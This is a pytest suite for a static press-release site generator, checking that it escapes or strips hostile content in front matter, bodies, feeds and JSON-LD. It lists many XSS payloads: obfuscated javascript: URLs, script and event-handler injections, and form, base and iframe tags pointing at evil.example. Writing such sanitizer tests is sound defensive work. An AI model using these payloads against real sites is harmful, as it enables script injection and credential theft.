"""Content cannot break out of where it lands: HTML text and attributes, URLs, XML, JSON-LD in <script>."""

import xml.etree.ElementTree as ET

import feedparser
import pytest
from markupsafe import escape

from conftest import build_site, jpeg, read_tree, run_cli
from hostile import PAYLOAD, audit_page, audit_tree, diagnostics, front_matter, jsonld_of, yaml_quote

ATOM = "{http://www.w3.org/2005/Atom}"
CONFIG = "title: Siaran Pers Uji\nbase_url: https://pers.example.go.id/\n"
Q = yaml_quote(PAYLOAD)


def hostile_site(make_site):
    full = front_matter({
        "title": Q,
        "date": "2025-05-15 10:00",
        "location": Q,
        "number": Q,
        "summary": Q,
        "byline": f"[{{name: {Q}, role: {Q}, credit: [penulis, fotografer]}}]",
        "editor": f"{{name: {yaml_quote('Editor ' + PAYLOAD)}, role: {Q}}}",
        "tags": f"[{Q}, biasa]",
        "image": f"{{src: media/foto.jpg, alt: {Q}, caption: {Q}, credit: {Q}}}",
        "attachments": f"[{{title: {Q}, src: media/berkas.pdf}}]",
        "contact": f"{{name: {Q}, phone: {Q}, email: humas@example.go.id}}",
        "updated": f"[{{date: 2025-05-16 10:00, note: {Q}}}]",
        "related": f"[{{title: {Q}, url: \"https://example.go.id/?a=1&b=<2>\"}}, b]",
    }, body="Paragraf pertama " + PAYLOAD + "\n\n[[b]]\n")
    withdrawn = front_matter({
        "title": "Rilis Ditarik",
        "date": "2025-05-10 10:00",
        "byline": "[Rina]",
        "tags": "[biasa]",
        "withdrawn": f"{{date: 2025-05-20 10:00, reason: {Q}}}",
    })
    return make_site({
        "kabargen.yaml": CONFIG,
        "content/a.md": full,
        "content/b.md": withdrawn,
        "content/media/foto.jpg": jpeg(),
        "content/media/berkas.pdf": b"%PDF",
    })


def test_hostile_text_in_every_field_is_escaped_everywhere(make_site):
    root = hostile_site(make_site)
    result = build_site(root)
    assert result.ok, [d.format() for d in result.diagnostics]
    out = root / "public"
    assert audit_tree(out) == {}
    page = (out / "rilis/2025/05/a/index.html").read_text()
    assert f"<h1>{escape(PAYLOAD)}</h1>" in page
    assert f'<meta name="description" content="{escape(PAYLOAD)}">' in page
    assert f'alt="{escape(PAYLOAD)}"' in page
    assert "{{ 7*7 }}" in page and "{% raw %}" in page  # content is data, never a template
    for rel, data in read_tree(out).items():
        if rel.endswith(".html"):
            assert b"<script>alert" not in data and b"<img src=x" not in data.lower(), rel
    data = jsonld_of(page)
    assert data["headline"] == PAYLOAD and data["dateline"] == PAYLOAD and data["description"] == PAYLOAD
    assert data["author"][0]["name"] == PAYLOAD and data["author"][0]["jobTitle"] == PAYLOAD
    assert data["editor"][0]["name"] == "Editor " + PAYLOAD
    assert PAYLOAD in data["keywords"]


def test_hostile_text_round_trips_through_feeds_and_sitemap(make_site):
    root = hostile_site(make_site)
    assert build_site(root).ok
    out = root / "public"
    feeds = [rel for rel in read_tree(out) if rel.endswith("feed.xml")]
    assert len(feeds) == 3  # site, #biasa and the payload tag
    for rel in feeds:
        raw = (out / rel).read_bytes()
        tree = ET.fromstring(raw)
        parsed = feedparser.parse(raw)
        assert not parsed.bozo, (rel, parsed.bozo_exception)
        entry = next(e for e in tree.findall(f"{ATOM}entry") if e.find(f"{ATOM}link").get("href").endswith("/a/"))
        assert entry.find(f"{ATOM}title").text == PAYLOAD
        assert entry.find(f"{ATOM}summary").text == PAYLOAD
        assert entry.find(f"{ATOM}author/{ATOM}name").text == PAYLOAD
        assert PAYLOAD in [c.get("label") for c in entry.findall(f"{ATOM}category")]
        # The content is escaped HTML: once unescaped it is the sanitized body, without scripts.
        content = audit_page(entry.find(f"{ATOM}content").text)
        assert content.problems == [] and content.jsonld == []
    withdrawn = ET.fromstring((out / "feed.xml").read_bytes())
    assert any(PAYLOAD in (e.find(f"{ATOM}summary").text or "") for e in withdrawn.findall(f"{ATOM}entry"))
    ET.fromstring((out / "sitemap.xml").read_bytes())


@pytest.mark.parametrize("field", ["title", "summary", "location", "byline", "tags"])
@pytest.mark.parametrize("breakout", ["</script><script>alert(1)</script>", "</SCRIPT >x", "<!--<script>", "]]>", "\u2028\u2029"])
def test_jsonld_cannot_be_closed_or_commented_out_from_any_field(make_site, field, breakout):
    value = f"Awal {breakout} akhir"
    fields = {"title": "Judul", "date": "2025-05-15 10:00", "byline": "[Rina]"}
    fields[field] = {"byline": f"[{{name: {yaml_quote(value)}}}]", "tags": f"[{yaml_quote(value)}]"}.get(field, yaml_quote(value))
    if field == "byline":
        value = " ".join(value.split())  # names are written on one line, spaces collapsed
    root = make_site({"kabargen.yaml": CONFIG, "content/a.md": front_matter(fields)})
    result = build_site(root)
    assert result.ok, [d.format() for d in result.diagnostics]
    page = (root / "public/rilis/2025/05/a/index.html").read_text()
    data = jsonld_of(page)  # exactly one script element, whose whole text parses as JSON
    found = {"title": data["headline"], "summary": data["description"], "location": data.get("dateline"),
             "byline": data["author"][0]["name"], "tags": (data.get("keywords") or [None])[0]}[field]
    assert found == value
    assert page.count("<script") == 1 and page.count("</script>") == 1


BAD_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://example.go.id/x",
]


def test_bad_url_schemes_in_front_matter_are_errors_with_their_line(make_site):
    files = {"kabargen.yaml": CONFIG, "content/media/foto.jpg": b"\xff\xd8"}
    for i, url in enumerate(BAD_URLS):
        files[f"content/r{i}.md"] = front_matter({
            "title": f"Rilis {i}", "date": "2025-05-15 10:00", "byline": "[Rina]",
            "related": f"[{{title: Tautan, url: {yaml_quote(url)}}}]",
            "image": f"{{src: {yaml_quote(url)}, alt: Foto}}",
            "attachments": f"[{{title: Berkas, src: {yaml_quote(url)}}}]",
        })
    root = make_site(files)
    result = run_cli("build", "--source", str(root), cwd=root)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    errors = {(p, line) for p, line, sev, _ in diagnostics(result.stderr) if sev == "error"}
    for i, url in enumerate(BAD_URLS):
        for line in (5, 6, 7):  # related, image, attachments
            assert (f"content/r{i}.md", line) in errors, (url, line, result.stderr)
    assert not (root / "public").exists()


def test_good_urls_in_front_matter_are_kept(make_site):
    fields = {"title": "Rilis", "date": "2025-05-15 10:00", "byline": "[Rina]",
              "related": "[{title: A, url: 'https://example.go.id/a?x=1&y=2'}, {title: B, url: 'mailto:humas@example.go.id'},"
                         " {title: C, url: 'tel:+62541000000'}, {title: D, url: /tentang/}, {title: E, url: 'http://example.go.id/'}]"}
    root = make_site({"kabargen.yaml": CONFIG, "content/a.md": front_matter(fields)})
    assert build_site(root).ok
    page = (root / "public/rilis/2025/05/a/index.html").read_text()
    for href in ["https://example.go.id/a?x=1&amp;y=2", "mailto:humas@example.go.id", "tel:+62541000000", "/tentang/", "http://example.go.id/"]:
        assert f'href="{href}"' in page


BODY_ATTACKS = [
    ("[klik](javascript:alert(1))", "scheme"),
    ("[klik](JaVaScRiPt:alert(1))", "scheme"),
    ("[klik](java&#09;script:alert(1))", None),
    ("![foto](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)", "scheme"),
    ("[ref][x]\n\n[x]: vbscript:msgbox(1)", None),
    ('<a href="javascript:alert(1)">a</a>', "scheme"),
    ('<a href="&#106;avascript:alert(1)">b</a>', "scheme"),
    ('<a href="java\tscript:alert(1)">c</a>', "scheme"),
    ('<a href="javascript&colon;alert(1)">d</a>', "scheme"),
    ('<a href=" &#14; javascript:alert(1)">e</a>', "scheme"),
    ('<img src=x onerror="alert(1)" alt="f">', "event handler"),
    ("<script>alert('skrip')</script>", "<script>"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script>"),
    ("<style>body{background:url(javascript:alert(1))}</style>", "<style>"),
    ('<svg onload="alert(1)"><circle r="1"/></svg>', "<svg>"),
    ('<math><mi xlink:href="javascript:alert(1)">x</mi></math>', "<math>"),
    ('<iframe src="https://evil.example/"></iframe>', "<iframe>"),
    ('<object data="javascript:alert(1)"></object>', "<object>"),
    ('<embed src="javascript:alert(1)">', "<embed>"),
    ('<form action="https://evil.example/"><input name="sandi"></form>', "<form>"),
    ('<base href="https://evil.example/">', "<base>"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "<meta>"),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', "<link>"),
    ('<div style="background:url(javascript:alert(1))">g</div>', None),
    ('<p title="h" onmouseover="alert(1)">h</p>', "event handler"),
    ("Tautan {: onclick=\"alert(1)\" }", None),
    ("[i](https://example.go.id/){: onclick=\"alert(1)\" style=\"x:expression(alert(1))\" }", None),
    ('<a href="https://example.go.id/" target="_blank" rel="opener">j</a>', None),
    ("<!-- <script>alert(1)</script> -->", None),
    ('<a data-xref="b" data-xref-fragment="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">k</a>', None),
]


def test_active_content_in_bodies_is_removed_with_a_warning(make_site):
    body_lines = []
    expect = []
    for attack, warning in BODY_ATTACKS:
        line = 6 + sum(x.count("\n") + 1 for x in body_lines)  # front matter: lines 1-5
        body_lines += [attack, ""]
        if warning:
            expect.append((line, warning))
    root = make_site({
        "kabargen.yaml": CONFIG,
        "content/a.md": front_matter({"title": "Serangan", "date": "2025-05-15 10:00", "byline": "[Rina]"}, "\n".join(body_lines)),
        "content/b.md": front_matter({"title": "Sasaran", "date": "2025-05-01 10:00", "byline": "[Rina]"}),
    })
    result = run_cli("build", "--source", str(root), cwd=root)
    assert result.returncode == 0, result.stderr
    found = diagnostics(result.stderr)
    for line, text in expect:
        assert any(p == "content/a.md" and ln == line and sev == "warning" and (text in msg or text.strip("<>") in msg)
                   for p, ln, sev, msg in found), (line, text, result.stderr)
    out = root / "public"
    assert audit_tree(out) == {}
    page = (out / "rilis/2025/05/a/index.html").read_text()
    audit = audit_page(page)
    assert audit.iframes == [] and audit.problems == []
    assert [url for url in audit.urls if "evil" in url or "script" in url.lower()] == []
    assert 'name="sandi"' not in page and 'target="_blank"' not in page and "<!--" not in page


IFRAMES = {
    "https://www.youtube-nocookie.com/embed/ok1": True,
    "https://WWW.YOUTUBE-NOCOOKIE.COM/embed/ok2": True,
    "https://evil.example\\@www.youtube-nocookie.com/embed/x1": False,
    "https://evil.example/\\www.youtube-nocookie.com/x2": False,
    "https://www.youtube-nocookie.com@evil.example/x3": False,
    "https://user:pw@www.youtube-nocookie.com/x4": False,
    "https://www.youtube-nocookie.com.evil.example/x5": False,
    "https://www.youtube-nocookie.com:8443/x6": False,
    "http://www.youtube-nocookie.com/x7": False,
    "//www.youtube-nocookie.com/x8": False,
    "https://evil.example/x9": False,
    "javascript:alert('x10')": False,
    "https://www.youtube-nocookie.com\t.evil.example/x11": False,
}


def test_iframes_only_from_embed_hosts(make_site):
    body = "\n\n".join(f'<iframe src="{src}" title="Video"></iframe>' for src in IFRAMES) + '\n\n<iframe srcdoc="<script>alert(1)</script>"></iframe>\n'
    root = make_site({
        "kabargen.yaml": CONFIG + "embed_hosts: [www.youtube-nocookie.com]\n",
        "content/a.md": front_matter({"title": "Video", "date": "2025-05-15 10:00", "byline": "[Rina]"}, body),
    })
    result = run_cli("build", "--source", str(root), cwd=root)
    assert result.returncode == 0, result.stderr
    page = (root / "public/rilis/2025/05/a/index.html").read_text()
    audit = audit_page(page)
    assert audit.problems == []
    assert audit.iframes == [src for src, ok in IFRAMES.items() if ok]
    warned = {ln for p, ln, sev, msg in diagnostics(result.stderr) if "iframe" in msg}
    assert warned >= {6 + 2 * i for i, ok in enumerate(IFRAMES.values()) if not ok}


def test_no_iframe_at_all_without_embed_hosts(make_site):
    root = make_site({
        "kabargen.yaml": CONFIG,
        "content/a.md": front_matter({"title": "Video", "date": "2025-05-15 10:00", "byline": "[Rina]"},
                                     '<iframe src="https://www.youtube-nocookie.com/embed/ok"></iframe>'),
    })
    result = build_site(root)
    assert result.ok
    assert "<iframe" not in (root / "public/rilis/2025/05/a/index.html").read_text()
    assert any("iframe" in d.message and d.line == 6 for d in result.warnings)


def test_contact_email_that_is_not_an_address_is_an_error(make_site):
    root = make_site({
        "kabargen.yaml": CONFIG,
        "content/a.md": front_matter({"title": "Kontak", "date": "2025-05-15 10:00", "byline": "[Rina]",
                                      "contact": "{name: Humas, email: 'x\" onmouseover=\"alert(1)'}"}),
    })
    result = build_site(root)
    assert [(d.path.endswith("content/a.md"), d.line) for d in result.errors] == [(True, 5)]
